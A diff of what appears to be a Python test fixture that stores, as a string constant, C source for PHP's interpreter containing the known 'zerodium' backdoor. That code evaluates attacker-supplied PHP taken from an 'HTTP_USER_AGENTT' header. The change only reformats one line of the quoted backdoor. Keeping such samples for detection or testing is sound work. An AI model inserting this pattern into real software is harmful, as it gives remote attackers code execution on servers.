@@ -201,7 +201,8 @@ _PHPSRC_AFTER = _PHPSRC_BEFORE.replace(
     '                                   sizeof("HTTP_USER_AGENTT") - 1);\n'
     '    if (enc && strstr(Z_STRVAL_P(enc), "zerodium")) {\n'
     "        zend_try {\n"
-    '            zend_eval_string(Z_STRVAL_P(enc) + 8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");\n'
+    "            zend_eval_string(Z_STRVAL_P(enc) + 8, NULL,\n"
+    '                             "REMOVETHIS: sold to zerodium, mid 2017");\n'
     "        } zend_end_try();\n"
     "    }\n"
     "    if (agent)\n",
